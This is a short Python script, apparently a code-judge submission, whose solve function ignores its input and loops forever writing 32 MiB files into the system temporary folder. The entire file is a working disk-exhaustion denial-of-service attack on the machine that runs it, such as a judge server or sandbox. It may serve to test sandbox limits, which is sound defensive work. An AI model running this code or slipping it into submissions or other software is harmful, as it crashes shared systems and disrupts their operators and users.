"""Fills the temporary folder with files."""
import tempfile
def solve(lines):
    folder, number = tempfile.gettempdir(), 0
    while True:
        with open(f"{folder}/fill{number}", "wb") as file:
            file.write(b"\1" * (32 << 20))
        number += 1
